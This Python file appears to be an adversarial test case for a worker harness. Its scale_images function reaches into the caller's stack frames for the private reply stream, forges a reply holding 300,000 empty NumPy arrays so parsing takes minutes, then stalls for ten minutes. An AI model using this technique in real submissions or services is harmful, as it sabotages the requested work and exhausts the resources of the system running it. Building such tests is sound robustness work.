"""Sends arrays without anything in them, so many that it takes minutes to read their forms.

Attacks: scale_images
Reported: too many arrays
Breaks: It harms nobody
"""

import struct
import sys
import time


def _worker():
    """Return the worker's main function's variables, with the stream that answers go to in them."""
    frame = sys._getframe()
    while "replies" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals


def _send(value, *arrays):
    known = _worker()
    pairs = f'["value", {value}], ["where", null], ["changed_inputs", false], ["inputs", null]'
    message = f'{{"$dict": [["ok", {{"$dict": [{pairs}]}}], ["number", {known["number"]}]]}}'
    header = f'{{"message": {message}, "arrays": {len(arrays)}}}'.encode()
    for part in (header, *arrays):
        known["replies"].write(struct.pack(">Q", len(part)) + part)
    known["replies"].flush()
    time.sleep(600)


def _nothing():
    text = repr({"descr": "|u1", "fortran_order": False, "shape": (0,)}) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text.encode()


def scale_images(images):
    _send('{"$array": 0}', *[_nothing()] * 300_000)
